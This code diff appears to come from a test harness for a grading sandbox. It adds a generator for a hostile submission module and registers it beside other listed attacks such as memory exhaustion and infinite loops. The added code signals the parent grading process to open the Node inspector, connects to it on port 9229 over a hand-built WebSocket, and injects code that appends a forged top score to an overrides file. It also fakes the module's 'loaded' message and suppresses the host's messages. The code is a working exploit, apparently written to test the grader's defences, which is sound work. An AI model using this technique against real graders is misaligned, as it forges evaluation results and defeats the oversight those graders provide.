@@ -50,6 +50,47 @@ ${EXPORTS.map((e) => `export function ${e}(..._a: unknown[]): any { ${exportsBod
 `;
 }
 
+/**
+ * SIGUSR1 makes a Node process open its inspector on 127.0.0.1:9229, and whoever connects runs
+ * code in it. The parent of a submission's process is the grading worker: signal it, claim to be
+ * loaded, drop the host's own messages and return from the import, so that this process's event
+ * loop runs; then connect and have the grader's process forge an override. Where there is no
+ * parent to signal (a PID namespace's init, another user's process) it behaves like the thrower.
+ */
+function debuggerAttack(overrides: string): string {
+  const payload = `process.getBuiltinModule("fs").appendFileSync(${JSON.stringify(overrides)}, "debugger,total,999,forged\\n")`;
+  return `const net = require("node:net");
+let signalled = false;
+grab("signal", () => { if (process.ppid <= 1) throw new Error("no parent"); process.kill(process.ppid, "SIGUSR1"); signalled = true; return "sent"; });
+function frame(text: string): Buffer {
+  const p = Buffer.from(text);
+  const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0x80 | 126, p.length >> 8, p.length & 255]);
+  return Buffer.concat([head, Buffer.alloc(4), p]); // a zero mask leaves the bytes as they are
+}
+function attack(tries: number): void {
+  const s = net.connect(9229, "127.0.0.1", () => s.write("GET /json/list HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n"));
+  let body = "";
+  s.on("error", () => { if (tries > 0) setTimeout(() => attack(tries - 1), 50); });
+  s.on("data", (d: Buffer) => {
+    body += d;
+    const id = /"id": "([\\w-]+)"/.exec(body);
+    if (!id) return;
+    s.destroy();
+    const ws = net.connect(9229, "127.0.0.1", () => ws.write("GET /" + id[1] + " HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"));
+    ws.on("error", () => undefined);
+    ws.once("data", () => ws.write(frame(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: ${JSON.stringify(payload)} } }))));
+  });
+}
+if (signalled) {
+  const realFs = require("node:fs");
+  const write = realFs.writeSync;
+  write(3, JSON.stringify({ t: "loaded", exports: ${JSON.stringify(EXPORTS)} }) + "\\n");
+  realFs.writeSync = (fd: number, b: Buffer, ...rest: unknown[]) => (fd === 3 ? b.length : write(fd, b, ...rest));
+  attack(20);
+  throw new Error("the event loop is ours now");
+}`;
+}
+
 /** name -> source of exercises/01-derivatives.ts */
 export function attackSources(t: Targets): Record<string, string> {
   const sol = path.join(t.course, "solutions", "01-derivatives.ts");
@@ -121,6 +162,7 @@ grab("dns", () => { require("node:dns").lookup("localhost", () => undefined); re
 for (let i = 0; i < 30; i++) { const b = Buffer.alloc(100 * 2 ** 20); b.fill(1); keep.push(b); }
 loot += " allocated " + keep.length * 100 + " MiB";`,
     ),
+    debugger: module(t, debuggerAttack(path.join(t.out, "overrides.csv"))),
     loop: module(t, 'for (;;) { loot += ""; }'),
     promise: module(t, "", "return new Promise(() => undefined);"),
   };
